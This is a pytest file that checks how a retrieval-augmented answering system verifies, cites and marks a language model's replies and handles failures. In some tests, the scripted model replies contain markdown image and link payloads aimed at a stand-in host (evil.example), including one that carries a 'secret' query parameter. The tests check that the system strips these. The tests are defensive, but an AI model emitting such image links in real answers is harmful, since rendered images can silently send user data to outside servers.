"""What a language model may do, over the wire through the real client: none of it reaches the user unmarked."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from rag.cli.show import show_answer
from rag.events import Drafted, Withdrawn
from rag.types import Turn
from tests.rag.llm.asking import QUESTION, Told, asked, key_of, saying, saying_json, shown_to
from tests.scripted_llm import Say, scripted

VALENCIA = "Ford’s site in Valencia is the leading candidate to take part"
GOOD = ("Ford’s site in Valencia is the leading candidate, one person said.", VALENCIA)
EXTRACTIVE = f"One person said {VALENCIA}. [1]"
LEVY = "provisional levies of as much as 37.6%"


def stood_in(told: Told, because: str) -> None:
    """The extractive answer stands, and says why."""
    assert told.record["mode"] == "extractive"
    assert told.text == EXTRACTIVE
    assert told.record["short_answer"] == "Valencia"
    assert because in told.notice
    assert told.verdicts == ["supported"]


def test_a_good_answer_is_shown_with_citations_and_verdicts(data: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with scripted(Say(saying(GOOD))) as server:
        told = asked(data, server)
    assert (told.record["mode"], told.record["status"]) == ("llm", "answered")
    assert told.text == f"{GOOD[0]} [1]"
    assert told.record["citations"][0]["quote"] == f"One person said {VALENCIA}."
    assert told.record["short_answer"] == "Valencia"
    start, end = told.record["citations"][0]["answer_span"]
    assert end - start == len("Valencia")
    assert told.record["usage"] == {
        "calls": 1,
        "input_tokens": 400,
        "output_tokens": 40,
        "cost": 0.0,
        "estimated": False,
    }
    assert told.record["models"]["llm"] == "openai:scripted"
    assert told.record["models"]["prompt:answer-markers"].startswith("1/")
    assert [type(event).__name__ for event in told.events] == ["Found", "Drafted", "Cited", "Judged", "Done"]
    show_answer(told.record)
    assert "400 + 40 tokens" in capsys.readouterr().out


def test_evidence_is_keyed_and_delimited_with_outlet_date_and_headline(data: Path) -> None:
    with scripted(Say(saying(GOOD))) as server:
        asked(data, server, llm_api_key="sk-of-a-test")
        request, headers = server.requests[0], server.headers[0]
    prompt = shown_to(request)
    assert "=== ARTICLE 1 | outlet: unknown | date: unknown | headline: " in prompt
    assert "\n[E1] " in prompt
    assert prompt.endswith(f"Question: {QUESTION}")
    assert headers["authorization"] == "Bearer sk-of-a-test"
    assert request["max_completion_tokens"] == 800


def test_a_made_up_marker_is_reported(data: Path) -> None:
    with scripted(Say(f"{GOOD[0]} [E99]")) as server:
        told = asked(data, server)
    stood_in(told, "bears out nothing")
    assert "made up" in told.failed_checks("leading candidate, one person said")["citation"]
    told.never_unmarked(GOOD[0])


def test_real_words_that_cite_the_wrong_quote(data: Path) -> None:
    wrong = (f"One person said {VALENCIA}.", "Five individuals said")
    with scripted(Say(saying(GOOD, wrong))) as server:
        told = asked(data, server)
    assert told.verdicts[0] == "supported"
    assert told.verdicts[1] != "supported"
    assert "another quote" in told.failed_checks("One person said")["citation"]
    told.never_unmarked(wrong[0])
    assert told.record["status"] == "partly_supported"


def test_a_changed_number_is_marked_with_what_differs(data: Path) -> None:
    changed = ("In 2024 the EU introduced provisional levies of as much as 47.6%.", LEVY)
    with scripted(Say(saying(GOOD, changed))) as server:
        told = asked(data, server)
    assert told.verdicts == ["supported", "contradicted"]
    assert "37.6" in told.failed_checks("47.6%")["number"]
    assert "[contradicted: " in told.text
    told.never_unmarked("47.6")


def test_another_speaker_is_marked(data: Path) -> None:
    swapped = ("Jim Farley said VW would not take an equity stake in Ford.", "Diess said VW would not take")
    question = "Would VW take an equity stake in Ford?"
    with scripted(
        Say(saying(("VW would not take an equity stake in Ford, Diess said.", "Diess said VW would"), swapped))
    ) as s:
        told = asked(data, s, question)
    assert told.verdicts[0] == "supported"
    assert told.verdicts[1] in {"contradicted", "unsupported"}
    assert any("Farley" in detail for detail in told.failed_checks("Farley").values())
    told.never_unmarked("Farley")


def test_a_stitched_quote_is_marked(data: Path) -> None:
    stitched = (
        "Diess said: “We need an additional car plant and would take an equity stake in Ford.”",
        "We need additional capacity here",
    )
    question = "What additional capacity does VW need in the United States?"
    fair = (
        "VW needs an additional car plant for VW and Audi combined, Diess said.",
        "We need additional capacity here",
    )
    with scripted(Say(saying(fair, stitched))) as server:
        told = asked(data, server, question)
    assert "supported" not in [
        v for v, one in zip(told.verdicts, told.record["sentences"], strict=True) if "stake" in one["text"]
    ]
    told.never_unmarked("take an equity stake")


def test_knowledge_of_its_own_is_not_evidence(data: Path) -> None:
    own = "Ford was founded in 1903 in Detroit by Henry Ford."
    with scripted(Say(f"{own}\nIt owns Lincoln.")) as server:
        told = asked(data, server)
    stood_in(told, "bears out nothing")
    assert told.removed == [own, "It owns Lincoln."]
    assert told.failed_checks("1903")["quote"] == "it cites nothing"
    told.never_unmarked("1903")


def test_where_the_archive_has_no_answer_the_model_is_not_asked(data: Path) -> None:
    with scripted() as server:
        told = asked(data, server, "What price did Ford pay for Argo AI?")
    assert server.requests == []
    assert told.record["status"] == "no_evidence"
    assert told.record["usage"] is None


def test_links_and_pictures_never_get_through(data: Path) -> None:
    bait = (f"![p](https://evil.example/p.png?q=secret) {GOOD[0]}", VALENCIA)
    link = ("See [the report](https://evil.example/r) or <img src=https://evil.example/i>.", VALENCIA)
    with scripted(Say(saying(GOOD, bait, link))) as server:
        told = asked(data, server)
    seen = str(told.record) + str(told.events)
    assert "evil.example" not in seen
    assert told.verdicts == ["supported", "unsupported", "unsupported"]
    assert "taken out" in told.failed_checks("[link taken out]")["link"]


@pytest.mark.parametrize("structured", ["never", "json_schema"])
def test_a_refusal(data: Path, structured: str) -> None:
    with scripted(Say(refusal="I can't help with that.")) as server:
        stood_in(asked(data, server, llm_structured=structured), "The language model was not used: it")


def test_a_refusal_in_words_is_a_sentence_that_nothing_bears_out(data: Path) -> None:
    with scripted(Say("I’m sorry, but I can’t help with that.")) as server:
        told = asked(data, server)
    stood_in(told, "bears out nothing")
    assert told.removed == ["I’m sorry, but I can’t help with that."]


def test_a_content_filter(data: Path) -> None:
    with scripted(Say("One", finish="content_filter")) as server:
        stood_in(asked(data, server), "it refused")


def test_an_empty_reply(data: Path) -> None:
    with scripted(Say("")) as server:
        stood_in(asked(data, server), "its reply was empty")


def test_no_answer_in_the_models_eyes_is_an_abstention(data: Path) -> None:
    with scripted(Say("NO ANSWER")) as server:
        told = asked(data, server)
    assert told.record["status"] == "no_evidence"
    assert "the language model found no answer" in told.text
    assert told.record["nearest"]


def test_a_reply_that_breaks_off_is_asked_for_again_and_then_given_up(data: Path) -> None:
    whole = Say(saying(GOOD, (f"One person said {VALENCIA}.", VALENCIA)), pieces=30, cut_after=20)
    with scripted(whole, whole) as server:
        told = asked(data, server)
    stood_in(told, "can't be reached")
    assert sum(isinstance(event, Withdrawn) for event in told.events) == 2
    with scripted(whole, Say(saying(GOOD))) as server:
        assert asked(data, server).record["mode"] == "llm"


def test_a_reply_without_an_end_is_not_taken_for_whole(data: Path) -> None:
    with scripted(Say(saying(GOOD), finish=None), Say(saying(GOOD), finish=None)) as server:
        stood_in(asked(data, server), "broke off")


def test_a_reply_that_was_cut_off_loses_its_last_sentence(data: Path) -> None:
    text = Say(lambda request: f"{saying(GOOD)(request)}\nTwo sources descr", finish="length")
    with scripted(text) as server:
        told = asked(data, server)
    assert told.text == f"{GOOD[0]} [1]"
    assert "cut off" in told.notice


def test_json_that_is_malformed_and_then_good(data: Path) -> None:
    with scripted(Say('{"answered": true, "sentences": [{"text": '), Say(saying_json(GOOD))) as server:
        told = asked(data, server, llm_structured="json_schema")
        assert server.requests[0]["response_format"]["type"] == "json_schema"
    assert told.text == f"{GOOD[0]} [1]"
    assert told.record["usage"]["calls"] == 2


def test_json_that_stays_malformed(data: Path) -> None:
    bad = Say("Here you are: {}")
    with scripted(bad, bad) as server:
        stood_in(asked(data, server, llm_structured="json_schema"), "not the JSON")


def test_json_that_says_there_is_no_answer(data: Path) -> None:
    with scripted(Say('{"answered": false, "sentences": []}')) as server:
        assert asked(data, server, llm_structured="json_schema").record["status"] == "no_evidence"


def test_a_busy_server_is_given_the_time_it_asks_for(data: Path) -> None:
    with scripted(Say(status=429, headers=(("Retry-After", "1"),)), Say(saying(GOOD))) as server:
        started = time.monotonic()
        told = asked(data, server, llm_retries=1)
    assert time.monotonic() - started >= 1
    assert told.record["mode"] == "llm"


@pytest.mark.parametrize(
    ("say", "because"),
    [
        (Say(status=429, headers=(("Retry-After", "7"),)), "busy (429)"),
        (Say(status=500), "failed (500)"),
        (Say(status=401), "refused the request (401)"),
    ],
)
def test_a_server_that_says_no(data: Path, say: Say, because: str) -> None:
    with scripted(say) as server:
        stood_in(asked(data, server), because)


def test_a_server_that_is_reset_is_asked_again(data: Path) -> None:
    with scripted(Say(reset=True), Say(saying(GOOD))) as server:
        assert asked(data, server).record["mode"] == "llm"


def test_a_slow_drip_costs_the_timeout_and_no_more(data: Path) -> None:
    with scripted(Say(saying(GOOD), pieces=200, pause_s=0.2)) as server:
        told = asked(data, server, llm_timeout_s=1)
    stood_in(told, "did not answer within 1 s")
    assert told.record["timings_ms"]["total"] < 1000 + 2500


def test_a_dead_server_still_answers(data: Path) -> None:
    with scripted() as server:
        base_url = server.base_url
    told = asked(data, server, llm_base_url=base_url, llm_timeout_s=3)
    stood_in(told, "can't be reached")


def test_a_ramble_is_cut_off(data: Path) -> None:
    ramble = Say(lambda request: saying(GOOD)(request) + "\n" + "and so on " * 40_000, pieces=2000, finish="length")
    with scripted(ramble) as server:
        told = asked(data, server, llm_output_tokens=100)
    assert told.text == f"{GOOD[0]} [1]"
    assert "cut off" in told.notice
    assert len(str(told.record)) < 20_000


def test_another_language_is_not_called_checked(data: Path) -> None:
    german = (
        "Laut einer Person ist das Werk von Ford in Valencia der aussichtsreichste Kandidat für die Fertigung.",
        VALENCIA,
    )
    with scripted(Say(saying(GOOD, german))) as server:
        told = asked(data, server)
    assert told.verdicts == ["supported", "unchecked"]
    assert "another language (de)" in told.failed_checks("Werk")["entailment"]
    assert "[not checked: " in told.text


def test_strict_takes_out_what_does_not_hold_and_never_shows_it(data: Path) -> None:
    changed = ("Two people said Ford’s site in Valencia is the leading candidate.", VALENCIA)
    with scripted(Say(saying(changed, GOOD))) as server:
        told = asked(data, server, llm_policy="strict")
    assert told.text == f"{GOOD[0]} [1]"
    assert told.removed == [changed[0]]
    assert "One sentence" in told.notice
    assert [event.text for event in told.events if isinstance(event, Drafted)] == [GOOD[0]]


def test_repair_names_the_faults_and_takes_the_second_draft(data: Path) -> None:
    changed = ("In 2024 the EU introduced provisional levies of as much as 47.6%.", LEVY)
    first = Say(saying(changed, GOOD))

    def second(request: dict[str, object]) -> str:
        faults = str(request["messages"][-1]["content"])  # type: ignore[index]
        assert "47.6%" in faults
        assert "37.6" in faults
        return f"{GOOD[0]} [{key_of(request, VALENCIA)}]"

    with scripted(first, Say(second)) as server:
        told = asked(data, server, llm_policy="repair")
    assert told.text == f"{GOOD[0]} [1]"
    assert told.removed == [changed[0]]
    assert "anew" in told.notice
    assert told.record["usage"]["calls"] == 2
    told.never_unmarked("47.6")


def test_a_cap_on_tokens_keeps_the_model_out(data: Path) -> None:
    with scripted() as server:
        stood_in(asked(data, server, llm_request_tokens=500), "more than 500 tokens")


def test_a_window_without_room_keeps_the_model_out(data: Path) -> None:
    with scripted() as server:
        told = asked(data, server, llm_window=1024)
    stood_in(told, "no room for the evidence")


def test_a_small_window_is_shown_less(data: Path) -> None:
    with scripted(Say(saying(GOOD)), Say(saying(GOOD))) as server:
        asked(data, server, llm_evidence_tokens=500)
        asked(data, server)
        small, large = (len(shown_to(request)) for request in server.requests)
    assert small < large


def test_the_model_words_a_follow_up(data: Path) -> None:
    history = [Turn("user", QUESTION), Turn("assistant", EXTRACTIVE)]
    question = "How many people said Ford’s site in Valencia is the leading candidate to take part?"
    with scripted(Say(question), Say(saying(("One person said Ford’s site in Valencia is.", VALENCIA)))) as server:
        told = asked(data, server, "How many people said so?", history)
        assert "Question: Which Ford plant" in shown_to(server.requests[0])
    assert told.record["standalone"] == question
    assert told.record["question"] == "How many people said so?"


@pytest.mark.parametrize(
    "reply", ["What did Elon Musk say about Tesla in 2019?", "[Which?](https://evil.example)", "x" * 600, ""]
)
def test_a_rewording_that_brings_something_in_is_not_taken(data: Path, reply: str) -> None:
    history = [Turn("user", QUESTION), Turn("assistant", EXTRACTIVE)]
    with scripted(Say(reply), Say("NO ANSWER"), Say("NO ANSWER")) as server:
        told = asked(data, server, "And who said that?", history)
    assert told.record["standalone"] == "Who said that Ford’s site in Valencia is the leading candidate to take part?"
